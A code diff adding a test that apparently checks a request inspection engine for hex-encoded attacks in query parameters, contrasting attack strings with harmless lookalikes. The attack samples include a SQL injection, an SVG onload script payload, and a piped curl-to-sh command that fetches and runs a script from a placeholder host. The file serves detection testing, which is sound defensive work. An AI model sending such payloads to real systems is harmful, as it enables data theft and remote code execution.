@@ -113,3 +113,30 @@ test.each([
   ])
     expect([text, severity(text)]).toEqual([text, 'LOW']);
 });
+
+test('a text in hexadecimal is read where it holds what attacks are made of', () => {
+  const severity = (text: string, write: (digits: string) => string) => {
+    const digits = write(Buffer.from(text).toString('hex'));
+    const request = requestOf({ target: `/a?state=${encodeURIComponent(digits)}` });
+    return engine.conclude(request, engine.inspect(request)).severity;
+  };
+  for (const write of [
+    (digits: string) => digits,
+    (digits: string) => `0x${digits.toUpperCase()}`,
+    (digits: string) => JSON.stringify({ b: digits }),
+  ]) {
+    for (const text of [
+      "9') UNION ALL SELECT pin FROM members -- ",
+      '<svg onload=confirm(7)>',
+      '|curl http://b.example/c|sh',
+    ])
+      expect([text, severity(text, write)]).toEqual([text, 'HIGH']);
+    for (const text of [
+      'https://b.example/c?d=e',
+      '{"union":"select committee"}',
+      'Ann and Bob, 5 or 17',
+      'curl cream (250 ml)',
+    ])
+      expect([text, severity(text, write)]).toEqual([text, 'LOW']);
+  }
+});
